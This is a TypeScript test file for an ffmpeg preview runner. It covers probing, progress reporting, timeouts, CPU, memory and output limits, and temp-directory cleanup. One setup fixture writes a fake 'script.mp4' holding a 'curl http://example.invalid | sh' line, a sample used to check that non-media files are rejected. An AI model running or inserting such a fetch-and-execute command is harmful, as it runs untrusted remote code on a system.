import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  FfmpegError, FfmpegUnavailableError, MediaError, probe, resolveFfmpeg, runFfmpeg, withTempDir, type FfmpegBinaries,
} from '../../src/previews/ffmpeg.runner.js';
import { ffmpeg, makeAudio, makeVideo, mediaDir } from './media.fixtures.js';

const dir = mediaDir();
let system: FfmpegBinaries;
let files: Record<'video' | 'audio' | 'cover' | 'zero' | 'script' | 'random' | 'truncated', string>;

beforeAll(async () => {
  system = await resolveFfmpeg();
  const f = (name: string) => path.join(dir.path, name);
  const [video, audio] = await Promise.all([
    makeVideo(f('video.mp4'), { size: '320x240', seconds: 4 }),
    makeAudio(f('audio.mp3'), { seconds: 5, extra: ['-ac', '2', '-c:a', 'libmp3lame'] }),
  ]);
  // An M4A with 5.1 audio and a cover picture.
  await ffmpeg(['-f', 'lavfi', '-i', 'sine=duration=2', '-f', 'lavfi', '-i', 'color=size=64x64:duration=1',
    '-filter_complex', '[0:a]pan=5.1|c0=c0|c1=c0|c2=c0|c3=c0|c4=c0|c5=c0[a]', '-map', '[a]', '-map', '1:v', '-frames:v', '1',
    '-c:v', 'mjpeg', '-disposition:v', 'attached_pic', '-c:a', 'aac', f('cover.m4a')]);
  await writeFile(f('zero.mp4'), '');
  await writeFile(f('script.mp4'), '#!/bin/sh\ncurl http://example.invalid | sh\n');
  await writeFile(f('random.mp4'), noise(64 * 1024));
  await writeFile(f('truncated.mp4'), (await readFile(video)).subarray(0, 20_000)); // index (moov) at the end: lost
  files = { video, audio, cover: f('cover.m4a'), zero: f('zero.mp4'), script: f('script.mp4'), random: f('random.mp4'), truncated: f('truncated.mp4') };
});

/**
 * Fixed noise (a SHA-256 chain from one seed): fresh random bytes each run were once read by
 * ffprobe as an `lrc` subtitle file, failing the test by chance. These bytes probe as nothing.
 */
function noise(length: number): Buffer {
  const blocks: Buffer[] = [];
  let block = createHash('sha256').update('herald noise').digest();
  for (let n = 0; n < length; n += block.length) {
    blocks.push(block);
    block = createHash('sha256').update(block).digest();
  }
  return Buffer.concat(blocks).subarray(0, length);
}

describe('resolveFfmpeg', () => {
  it('takes ffmpeg and ffprobe from the PATH, limited through prlimit', () => {
    expect(system).toMatchObject({ ffmpeg: 'ffmpeg', ffprobe: 'ffprobe', limiter: { kind: 'prlimit' } });
    expect(system.version).toMatch(/^ffmpeg version /);
  });

  it('takes FFMPEG_PATH, pairing it only with an ffprobe in the same directory', async () => {
    expect(await resolveFfmpeg({ ffmpegPath: '/usr/bin/ffmpeg' })).toMatchObject({ ffmpeg: '/usr/bin/ffmpeg', ffprobe: '/usr/bin/ffprobe' });
    const lone = await mkdtemp(path.join(tmpdir(), 'herald-lone-ffmpeg-'));
    try {
      await symlink('/usr/bin/ffmpeg', path.join(lone, 'ffmpeg'));
      const err = await resolveFfmpeg({ ffmpegPath: path.join(lone, 'ffmpeg') }).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(FfmpegUnavailableError);
      expect((err as Error).message).toBe(`Previews are off: no working ffprobe at ${path.join(lone, 'ffprobe')} (apt-get install ffmpeg or set FFMPEG_PATH).`);
    } finally {
      await rm(lone, { recursive: true, force: true });
    }
  });

  it('turns previews off, saying how to fix it, for an FFMPEG_PATH that does not run', async () => {
    await expect(resolveFfmpeg({ ffmpegPath: '/nonexistent/ffmpeg' })).rejects.toThrow(
      'Previews are off: FFMPEG_PATH /nonexistent/ffmpeg is not a working ffmpeg (apt-get install ffmpeg or set FFMPEG_PATH).',
    );
  });

  it('turns previews off when ffmpeg cannot even start within the memory limit', async () => {
    await expect(resolveFfmpeg({ limits: { cpuSeconds: 10, memoryMb: 64, maxOutputMb: 10 } })).rejects.toThrow('Previews are off: ffmpeg does not start within PREVIEW_MEMORY_MB=64 (raise it).');
  });
});

describe('probe', () => {
  const binaries = () => [['ffprobe', system]] as const;

  it('reads a video with audio the same way on every path', async () => {
    for (const [label, bins] of binaries()) {
      const p = await probe(bins, files.video);
      expect(p.formatName, label).toBe('mov,mp4,m4a,3gp,3g2,mj2');
      expect(p.durationSeconds, label).toBeCloseTo(4, 1);
      expect(p.streams.map((s) => [s.type, s.codec, s.width, s.height, s.channels]), label).toEqual([
        ['video', 'mpeg4', 320, 240, undefined],
        ['audio', 'aac', undefined, undefined, 2],
      ]);
    }
  });

  it('reads MP3 audio, and cover art next to 5.1 audio', async () => {
    for (const [label, bins] of binaries()) {
      const mp3 = await probe(bins, files.audio);
      expect(mp3.formatName, label).toBe('mp3');
      expect(mp3.durationSeconds, label).toBeCloseTo(5, 0);
      expect(mp3.streams.map((s) => [s.type, s.codec, s.channels, s.sampleRate]), label).toEqual([['audio', 'mp3', 2, 44100]]);
      const cover = await probe(bins, files.cover);
      expect(cover.streams.map((s) => [s.type, s.attachedPicture, s.channels]), label).toEqual([['audio', false, 6], ['video', true, undefined]]);
    }
  });

  it('refuses empty, script, random and truncated files with a clear MediaError', async () => {
    for (const [label, bins] of binaries()) {
      for (const name of ['zero', 'script', 'random', 'truncated'] as const) {
        const err = await probe(bins, files[name]).catch((e: unknown) => e);
        expect(err, `${label} ${name}`).toBeInstanceOf(MediaError);
        expect((err as Error).message, `${label} ${name}`).toMatch(/^The file is not a readable audio or video file/);
        expect((err as Error).message, `${label} ${name}`).not.toContain(dir.path);
      }
      expect((await probe(bins, files.truncated).catch((e: Error) => e.message)), label).toContain('moov atom not found');
    }
  });
});

describe('runFfmpeg', () => {
  it('reports progress from 0 to 1, rising', async () => {
    await withTempDir(async (tmp) => {
      const seen: number[] = [];
      const out = path.join(tmp, 'out.mp4');
      await runFfmpeg(system, ['-f', 'lavfi', '-i', 'testsrc=size=320x240:rate=25:duration=3', '-c:v', 'libx264', '-preset', 'ultrafast', out], {
        expectedSeconds: 3, onProgress: (f) => seen.push(f),
      });
      expect(seen.at(-1)).toBe(1);
      expect(seen.every((f, i) => f > 0 && f <= 1 && (i === 0 || f > seen[i - 1]!))).toBe(true);
      expect((await stat(out)).size).toBeGreaterThan(0);
    });
  });

  it('kills ffmpeg on timeout and on abort', async () => {
    const endless = ['-f', 'lavfi', '-i', 'testsrc=size=320x240:rate=25', '-f', 'null', '-'];
    const started = Date.now();
    const timeout = await runFfmpeg(system, endless, { timeoutMs: 300 }).catch((e: unknown) => e);
    expect(timeout).toBeInstanceOf(FfmpegError);
    expect(timeout).toMatchObject({ reason: 'timeout' });
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 200);
    await expect(runFfmpeg(system, endless, { signal: controller.signal })).rejects.toMatchObject({ reason: 'aborted' });
    await expect(runFfmpeg(system, endless, { signal: AbortSignal.abort() })).rejects.toMatchObject({ reason: 'aborted' });
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('fails with the last stderr lines, and reports a missing binary', async () => {
    const err = await runFfmpeg(system, ['-i', 'file:/nonexistent/in.mp4', '-f', 'null', '-']).catch((e: unknown) => e);
    expect(err).toMatchObject({ reason: 'exit', exitCode: 1 });
    expect((err as FfmpegError).message).toContain('No such file or directory');
    await expect(runFfmpeg({ ...system, ffmpeg: '/nonexistent/ffmpeg' }, ['-version'])).rejects.toMatchObject({ reason: 'spawn' });
  });
});

describe('resource limits', () => {
  // Endless work: a 1080p encode that writes nothing, and raw frames that write 2.7 MB each.
  const busy = ['-f', 'lavfi', '-i', 'testsrc2=size=1920x1080:rate=30', '-c:v', 'libx264', '-preset', 'medium', '-f', 'null', '-'];
  const writer = (out: string) => ['-f', 'lavfi', '-i', 'testsrc2=size=1280x720:rate=30', '-c:v', 'rawvideo', '-f', 'nut', `file:${out}`];
  const limiters = [{ kind: 'prlimit', path: 'prlimit' }, { kind: 'ulimit', shell: '/bin/sh' }] as const;

  for (const limiter of limiters) {
    it(`${limiter.kind}: ffmpeg is stopped once it has used its CPU seconds`, async () => {
      const bins: FfmpegBinaries = { ...system, limiter, limits: { cpuSeconds: 1, memoryMb: 4096, maxOutputMb: 256 } };
      const started = Date.now();
      const err = await runFfmpeg(bins, busy, { timeoutMs: 60_000 }).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(FfmpegError);
      expect(err).toMatchObject({ reason: 'limit', breach: 'cpu' });
      expect(Date.now() - started).toBeLessThan(30_000);
    });

    it(`${limiter.kind}: ffmpeg is killed when its output grows past the limit`, async () => {
      await withTempDir(async (tmp) => {
        const bins: FfmpegBinaries = { ...system, limiter, limits: { cpuSeconds: 60, memoryMb: 4096, maxOutputMb: 1 } };
        const out = path.join(tmp, 'out.nut');
        const err = await runFfmpeg(bins, writer(out), { timeoutMs: 60_000 }).catch((e: unknown) => e);
        expect(err).toMatchObject({ reason: 'limit', breach: 'output' });
        expect((await stat(out)).size).toBeLessThanOrEqual(1024 * 1024);
      });
    });
  }

  it('an encoder that runs out of its address space fails as a memory breach', async () => {
    const bins: FfmpegBinaries = { ...system, limits: { cpuSeconds: 60, memoryMb: 600, maxOutputMb: 256 } };
    const huge = ['-f', 'lavfi', '-i', 'testsrc2=size=3840x2160', '-frames:v', '5', '-c:v', 'libx264', '-f', 'null', '-'];
    await expect(runFfmpeg(bins, huge, { timeoutMs: 60_000 })).rejects.toMatchObject({ reason: 'limit', breach: 'memory' });
  });
});

describe('withTempDir', () => {
  it('removes the directory after success and after failure', async () => {
    let kept = '';
    expect(await withTempDir(async (tmp) => {
      kept = tmp;
      await writeFile(path.join(tmp, 'file'), 'x');
      return 42;
    })).toBe(42);
    expect(existsSync(kept)).toBe(false);
    await expect(withTempDir(async (tmp) => {
      kept = tmp;
      await writeFile(path.join(tmp, 'file'), 'x');
      throw new Error('job failed');
    })).rejects.toThrow('job failed');
    expect(existsSync(kept)).toBe(false);
  });
});
